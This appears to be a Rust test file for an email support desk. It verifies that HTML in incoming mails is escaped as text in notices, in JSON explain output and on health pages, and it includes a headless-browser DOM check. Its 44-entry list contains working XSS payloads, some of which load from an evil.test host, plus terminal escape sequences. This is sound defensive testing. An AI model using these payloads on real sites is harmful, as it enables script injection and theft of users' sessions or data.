//! V26: markup in a mail never becomes markup of ours: no script, no event attribute, no external load, in any notice,
//! in either language, wherever the words stood; nor on the health page, in `explain --json`, or on a terminal.
//!
//! Each HTML part is read by the strict scanner; where a Chromium is installed, its DOM is asked as well.

use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;

use crate::daemon::{Home, get};
use crate::desk::{Outgoing, TestDesk};
use crate::notices::{GENEROUS, kinds, life};
use crate::people::{Person, WANG, ZHAO};
use crate::program::{explained, head_of, wait_settled};
use crate::scanner::{flat, scan};
use crate::servers::free_port;
use postdesk::desk::Admitted;

/// Markup in the disguises that have come through elsewhere: case, gaps, entities, half tags, foreign content, comments.
const MARKUP: [&str; 44] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<script\u{c}>alert(1)</script\t\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"http://evil.test/p.gif\" width=1>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<svg onload=alert(1)>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=//evil.test/x.swf>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import url(//evil.test/x.css);</style>",
    "<style>body{background:url(//evil.test/x)}</style>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<div style=\"width:expression(alert(1))\">",
    "<body onload=alert(1)>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<form action=//evil.test/><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\" &#106;avascript:alert(1)\">click</a>",
    "<a href=\"java\tscript:alert(1)\" target=_blank>click</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=//evil.test/a onloadstart=alert(1)>",
    "<template><script>alert(1)</script></template><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "</td></tr></table></body></html><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![endif]--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></x>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)' x='",
    "\" onmouseover=\"alert(1)\" x=\"",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x3c;b&#x3e;",
];

/// Reads every HTML part; gives how many there were.
fn sound(sent: &[Outgoing], what: &str, pages: &mut Vec<String>) -> usize {
    for one in sent {
        let seen = scan(&one.html).unwrap_or_else(|why| panic!("{what}: {}: {why}\n{}", one.notice, one.html));
        assert!(seen.elements > 20 && !seen.text.trim().is_empty(), "{what}: {}", one.notice);
        pages.push(one.html.clone());
    }
    sent.len()
}

/// The words of a mail that are shown to the engineer, in text and in HTML, as text.
fn shown(sent: &[Outgoing], words: &str) -> usize {
    let told = sent.iter().filter(|m| m.notice == "assigned_to_you");
    told.filter(|m| {
        flat(&m.mail.text).contains(&flat(words)) && flat(&scan(&m.html).unwrap().text).contains(&flat(words))
    })
    .count()
}

fn at_name(words: &str) -> String {
    format!("\"Ann {}\"", words.replace('\\', "").replace('"', "\\\"").replace(['\n', '\t', '\u{c}'], " "))
}

#[tokio::test]
async fn v26_markup_in_a_first_mail_is_text_in_every_notice() {
    let mut desk = TestDesk::with(GENEROUS).await;
    let (mut pages, mut parts, mut visible, mut named) = (Vec::new(), 0, 0, 0);
    for (number, words) in MARKUP.iter().enumerate() {
        if number % 30 == 29 {
            // The engineer takes a hundred tickets and no more.
            desk.end().await;
            desk = TestDesk::with(GENEROUS).await;
        }
        let both = [(WANG, "The printer jams and shows this"), (ZHAO, "打印机卡纸并显示如下内容")];
        for (who, hello) in both.into_iter().skip(number % 2).take(1) {
            let what = format!("{hello}: {words}");
            let line = words.replace(['\n', '\t', '\u{c}'], " ");
            let file = format!("{number} {}.svg", line.replace(['"', '\\', '/'], " "));
            let mail = who
                .writes(&format!("{hello} {line}"), &format!("{hello}:\n\n{words}\n"))
                .field("X-Mailer", &line)
                .field("Message-ID", &format!("<{number}.{}.<script>@corp.test>", who.name))
                .attach(&file, "image/svg+xml", words.as_bytes());
            let step = desk.gets(mail.clone()).await;
            step.opened();
            visible += shown(&step.sent, words);
            parts += sound(&step.sent, &what, &mut pages);
            let subject = &step.mail("assigned_to_you").subject;
            assert!(subject.contains(&flat(&line).chars().take(30).collect::<String>()), "{what}: {subject}");
            // The display name: shown where two parsers read it alike, else nobody's mail.
            let from = format!("{} <{}>", at_name(words), who.address);
            let step = desk.gets(mail.field("From", &from).field("Message-ID", &format!("<n{number}@x>"))).await;
            match step.outcome {
                Some(Admitted::Opened(_)) => named += 1,
                Some(Admitted::Quarantined(_)) => assert!(step.sent.is_empty(), "{what}"),
                ref other => panic!("{what}: {other:?}"),
            }
            parts += sound(&step.sent, &what, &mut pages);
            // The same as the only part, in HTML.
            let raw = format!(
                "From: {}\r\nTo: support@desk.test\r\nSubject: {hello} {number}\r\nMessage-ID: <h{number}.{}@x>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body>{hello}. {words} <p>{hello}</p></body></html>\r\n",
                who.address,
                hello.len()
            );
            let step = desk.gets(raw).await;
            step.opened();
            parts += sound(&step.sent, &what, &mut pages);
        }
    }
    let all = MARKUP.len();
    assert!(visible >= all, "shown as text to the engineer: {visible} of {all}");
    assert!(named * 10 >= all * 9, "mails with such a name that are answered: {named} of {all}");
    assert!(parts >= 5 * all, "{parts} HTML parts");
    desk.end().await;
    in_a_browser(&pages);
}

#[tokio::test]
async fn v26_markup_is_text_through_a_whole_life() {
    let (mut pages, mut parts, mut seen) = (Vec::new(), 0, BTreeSet::new());
    for (who, chinese) in [(WANG, false), (ZHAO, true)] {
        for words in MARKUP.chunks(15) {
            let desk = TestDesk::with(GENEROUS).await;
            let hello = if chinese { "您好，打印机卡纸。" } else { "Hello, it jams." };
            let text = format!("{hello}\n\n{}\n", words.join("\n"));
            let first = Person { ..who }.writes(&format!("{hello} {}", words[0]), &text);
            let words: Vec<String> = words.iter().map(|w| flat(w)).collect();
            let words: Vec<&str> = words.iter().map(String::as_str).collect();
            let sent = life(&desk, first, (&words, chinese)).await;
            parts += sound(&sent, words[0], &mut pages);
            for one in sent.iter().filter(|m| m.notice == "reply" || m.notice == "resolved") {
                let html = flat(&scan(&one.html).unwrap().text);
                let lost: Vec<&&str> = words.iter().filter(|w| !html.contains(**w)).collect();
                assert!(lost.is_empty(), "{}: escaped, not lost: {lost:?} in {}\n{html}", one.notice, one.mail.text);
            }
            seen.extend(kinds(&sent));
            desk.end().await;
        }
    }
    assert!(parts >= 80 && seen.len() >= 11, "{parts} parts of {seen:?}");
    in_a_browser(&pages);
}

/// Nothing that a terminal obeys leaves `explain`, and its JSON is JSON whatever the mail holds.
#[test]
fn v26_explain_shows_markup_and_escapes_as_text() {
    let home = Home::new("");
    let escapes = "\u{1b}[31mred\u{1b}]0;title\u{7} \u{9b}2J \u{8}\u{8} \u{202e}txt \u{0}end";
    let mut paths = Vec::new();
    for (number, words) in MARKUP.iter().chain([&escapes]).enumerate() {
        let raw = WANG
            .writes(&flat(words), &format!("{words}\n#take {words}\n"))
            .field("From", &format!("{} <wang@corp.test>", at_name(words)))
            .field("Message-ID", &format!("<{number}\u{1b}[31m@x>"))
            .field("In-Reply-To", &format!("<r{number}\u{1b}[31m@x>"))
            .attach(&format!("a{}.txt", words.replace('"', "")), "text/html", words.as_bytes())
            .raw();
        let path = home.path().join(format!("{number}.eml"));
        std::fs::write(&path, raw).unwrap();
        paths.push(path);
    }
    let (objects, told) = explained(&paths);
    assert_eq!(objects.len(), MARKUP.len() + 1);
    for (object, words) in objects.iter().zip(MARKUP) {
        let words: String = words.chars().filter(|c| *c != '\u{c}').collect();
        assert!(flat(object["text"].as_str().unwrap()).contains(&flat(&words)), "{words}");
        let name = object["attachments"][0]["name"].as_str().unwrap();
        assert!(!name.contains(['<', '>', '"', '/']), "{name}");
    }
    let bad: Vec<char> = told.chars().filter(|c| c.is_control() && *c != '\n' && *c != '\t').collect();
    assert!(told.len() > 10_000 && bad.is_empty(), "for a terminal: {bad:?}");
}

/// The only pages that are served are plain text, and nothing from a mail stands on them.
#[test]
fn v26_the_health_page_is_plain_and_says_nothing_of_mails() {
    let web = free_port();
    let home = Home::new(&format!(
        "[desk]\nname = \"Desk\"\naddress = \"support@desk.test\"\n\n[[mailbox]]\nkind = \"maildir\"\nname = \"support\"\npath = \"in\"\n\n[smtp]\nkind = \"maildir\"\npath = \"out\"\n\n[web]\nlisten = \"127.0.0.1:{web}\"\n\n[[engineer]]\nname = \"alice\"\naddress = \"alice@desk.test\"\n"
    ));
    let _daemon = home.start();
    std::fs::create_dir_all(home.path().join("in/new")).unwrap();
    for (number, words) in MARKUP.iter().enumerate() {
        let raw = WANG.writes(&flat(words), words).raw();
        std::fs::write(home.path().join(format!("in/new/{number}<script>.eml")), raw).unwrap();
    }
    wait_settled(&home, MARKUP.len());
    for path in ["/healthz", "/readyz", "/metrics", "/", "/<script>alert(1)</script>", "/readyz?x=<script>"] {
        let (_, body) = get(web, path).expect("an answer");
        assert!(
            !body.contains("<script") && !body.contains("alert(1)") && !body.contains("corp.test"),
            "{path}: {body}"
        );
        let head = head_of(web, path);
        let of_html = head.to_ascii_lowercase().contains("text/html");
        assert!(!of_html && (head.contains("text/plain") || body.is_empty()), "{path}: {head}");
    }
    home.assert_verified();
}

/// The DOM of a real browser, if there is one: the same law, read by somebody else.
fn in_a_browser(pages: &[String]) {
    const BROWSERS: [&str; 4] =
        ["/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome", "/snap/bin/chromium"];
    let Some(browser) = BROWSERS.iter().find(|path| Path::new(path).exists()) else {
        eprintln!("no Chromium here: the DOM was not asked");
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    let data = serde_json::to_string(pages).unwrap().replace('<', "\\u003c");
    let script = r#"
        const ours = new Set("HTML HEAD META TITLE STYLE BODY DIV TABLE TBODY TR TD P B SPAN A BR".split(" "));
        const loads = ["src", "srcset", "background", "data", "action", "formaction", "poster", "xlink:href", "ping"];
        let bad = [], elements = 0;
        for (const page of PAGES) {
            const dom = new DOMParser().parseFromString(page, "text/html");
            for (const one of dom.querySelectorAll("*")) {
                elements += 1;
                if (!ours.has(one.tagName)) bad.push(one.tagName);
                for (const a of one.attributes) {
                    if (a.name.startsWith("on") || loads.includes(a.name)) bad.push(one.tagName + " " + a.name);
                    if (a.name == "href" && !a.value.startsWith("mailto:")) bad.push(a.value);
                    if (a.name == "style" && /url|expression|import/i.test(a.value)) bad.push(a.value);
                }
            }
        }
        document.title = `checked ${PAGES.length} pages ${elements} elements ${bad.length} faults ${bad.slice(0, 9)}`;
    "#;
    let page = format!("<!DOCTYPE html><title>not run</title><script>const PAGES = {data};{script}</script>");
    let file = folder.path().join("pages.html");
    std::fs::write(&file, page).unwrap();
    let output = Command::new("timeout")
        .args(["120", browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--dump-dom"])
        .arg(format!("--user-data-dir={}", folder.path().join("profile").display()))
        .arg(format!("file://{}", file.display()))
        .output()
        .unwrap();
    let dom = String::from_utf8_lossy(&output.stdout);
    let title = dom.split("<title>").nth(1).and_then(|t| t.split("</title>").next()).unwrap_or_default();
    if !title.starts_with("checked") {
        eprintln!("the browser did not run: {title:?} {}", String::from_utf8_lossy(&output.stderr));
        return;
    }
    eprintln!("{browser}: {title}");
    assert!(title.starts_with(&format!("checked {} pages", pages.len())) && title.contains(" 0 faults"), "{title}");
}
